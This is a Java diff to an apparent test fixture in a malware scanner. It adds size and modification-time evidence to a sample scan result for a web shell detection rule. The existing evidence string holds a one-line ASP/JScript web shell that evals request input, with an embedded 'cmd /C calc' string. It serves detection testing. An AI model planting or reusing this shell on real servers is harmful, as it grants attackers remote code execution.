@@ -233,7 +233,8 @@ public final class SampleResults {
                 .meta("author", "Florian Roth")
                 .evidence("$a", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"=cmd|' /C calc'!A0\"],\"unsafe\");%>")
                 .evidence("sha256", "f692b6df1c5ee4891169386c16e183b3da268dc5f1dda504213d4b3650579842")
-                .time(Instant.parse("2021-03-03T02:15:40Z"))
+                .evidence("size", "80").evidence("modified", "2021-03-03T02:15:40Z")
+                .time(Instant.parse("2021-03-03T02:15:40Z"))   // the file's, as a scan gives it
                 .source(new SourceRef(SHELL, -1, 12, null))
                 .build();
     }
